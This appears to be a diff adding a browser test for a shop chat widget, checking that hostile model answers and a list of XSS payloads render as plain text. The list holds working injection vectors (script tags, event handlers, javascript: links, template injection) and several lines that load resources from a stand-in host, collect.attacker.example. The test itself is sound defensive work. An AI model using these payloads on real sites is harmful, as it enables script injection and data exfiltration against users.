@@ -1,0 +1,124 @@
+import { readFileSync } from 'node:fs';
+import { expect, it } from 'vitest';
+import { useBrowser } from '../support/browser.ts';
+import { startTestServer } from '../support/http.ts';
+import { createScriptedChat, createScriptedDepartments } from '../support/scripted-chat.ts';
+
+const { openPage, widgetDirectory } = useBrowser();
+
+/** What a hostile model answers; here nothing stands between it and the page. */
+const ANSWERS = readFileSync(
+  new URL('../../eval/cases/attack/hostile-answers.jsonl', import.meta.url),
+  'utf8',
+)
+  .split('\n')
+  .filter((line) => line !== '')
+  .map((line) => JSON.parse(line) as { readonly to: string; readonly say?: string; readonly repeat?: number })
+  .filter(({ to, repeat }) => to === 'reply' && repeat === undefined)
+  .flatMap(({ say }) => say ?? []);
+
+/** Text of the shop, or of a shopper, that would be more than text. */
+const PAYLOADS = [
+  '<script>globalThis.broken=1</script>',
+  '<img src=x onerror="globalThis.broken=1">',
+  '<svg onload="globalThis.broken=1">',
+  '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>',
+  '<a href="javascript:globalThis.broken=1">x</a>',
+  '"><script>globalThis.broken=1</script>',
+  "' autofocus onfocus='globalThis.broken=1",
+  '<details open ontoggle="globalThis.broken=1">',
+  '<math><mi xlink:href="javascript:globalThis.broken=1">',
+  '<style>@import url(https://collect.attacker.example/c.css)</style>',
+  '<link rel=stylesheet href=https://collect.attacker.example/c.css>',
+  '<base href=https://collect.attacker.example/>',
+  '<object data=https://collect.attacker.example/o></object>',
+  '<video src=https://collect.attacker.example/v onerror="globalThis.broken=1">',
+  '<form action=https://collect.attacker.example><input name=q autofocus></form>',
+  '{{constructor.constructor("globalThis.broken=1")()}}',
+  '<template shadowrootmode=open><script>globalThis.broken=1</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=globalThis.broken=1>">',
+  '<marquee onstart="globalThis.broken=1">',
+  '<body onload="globalThis.broken=1">',
+  '<input onfocus="globalThis.broken=1" autofocus>',
+  '<svg><use href="data:image/svg+xml,<svg onload=globalThis.broken=1>"/></svg>',
+  '<meta http-equiv=refresh content="0;url=https://collect.attacker.example">',
+  '![x](https://collect.attacker.example/p.png)',
+  '[x](javascript:globalThis.broken=1)',
+  '&lt;script&gt;globalThis.broken=1&lt;/script&gt;',
+  '\u202e<script>globalThis.broken=1</script>\u202c',
+  '<scr<script>ipt>globalThis.broken=1</script>',
+  'javascript:globalThis.broken=1',
+];
+
+/** Several to a reply: they are shown as they come. */
+const TOGETHER = 8;
+const REPLIES = Array.from({ length: Math.ceil(ANSWERS.length / TOGETHER) }, (_, index) =>
+  ANSWERS.slice(index * TOGETHER, (index + 1) * TOGETHER).join('\n\n'),
+);
+
+async function openShop() {
+  let next = 0;
+  const chat = createScriptedChat({
+    answer(turn) {
+      const text = REPLIES[next % REPLIES.length] ?? '';
+      const payload = PAYLOADS[next % PAYLOADS.length] ?? '';
+      next += 1;
+      const products = turn.products.map((product) => ({
+        ...product,
+        title: payload,
+        description: payload,
+        brand: payload,
+        attributes: { [payload]: [payload] },
+        reasons: [payload],
+        url: payload,
+        imageUrl: payload,
+      }));
+      return { ...turn, text, products, chips: [{ label: payload, count: 1, message: payload }] };
+    },
+  });
+  const departments = createScriptedDepartments();
+  const { url } = await startTestServer({ chat, departments, widgetDirectory: widgetDirectory() });
+  const page = await openPage();
+  const foreign: string[] = [];
+  const errors: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).origin !== new URL(url).origin) foreign.push(request.url());
+  });
+  page.on('console', (message) => {
+    if (message.type() === 'error') errors.push(message.text());
+  });
+  await page.goto(url);
+  return { page, chat, foreign, errors, origin: new URL(url).origin };
+}
+
+it('shows every hostile answer and payload as words: no host but its own, no script, no dialog, no error', async () => {
+  const { page, chat, foreign, errors, origin } = await openShop();
+  await page.locator('.launcher').focus();
+  await page.keyboard.press('Enter');
+  for (const index of Array(Math.max(REPLIES.length, PAYLOADS.length)).keys()) {
+    await page.locator('textarea').fill(PAYLOADS[index % PAYLOADS.length] ?? '');
+    const send = async () => {
+      await page.locator('textarea').press('Enter');
+      return chat.handled.length;
+    };
+    await expect.poll(send, { interval: 50, timeout: 20_000 }).toBeGreaterThan(index);
+    await page.locator('.reply[aria-busy="true"]').waitFor({ state: 'detached' });
+  }
+
+  expect(ANSWERS.length).toBeGreaterThanOrEqual(150);
+  expect(foreign).toEqual([]);
+  // Pictures at addresses that are none are asked of the shop itself, and are not there.
+  expect(errors.filter((error) => !error.startsWith('Failed to load resource'))).toEqual([]);
+  expect(page.url().startsWith(origin)).toBe(true);
+  expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
+  const dangerous = page.locator(
+    'floorwalker-chat :is(script, iframe, object, embed, base, meta, form[action], [onerror], [onload], [srcdoc])',
+  );
+  expect(await dangerous.count()).toBe(0);
+  const addresses = await page
+    .locator('floorwalker-chat :is(a, img)')
+    .evaluateAll((elements) =>
+      elements.map((element) => String(Reflect.get(element, element.tagName === 'A' ? 'href' : 'src'))),
+    );
+  expect(addresses.filter((address) => !address.startsWith(origin))).toEqual([]);
+}, 180_000);
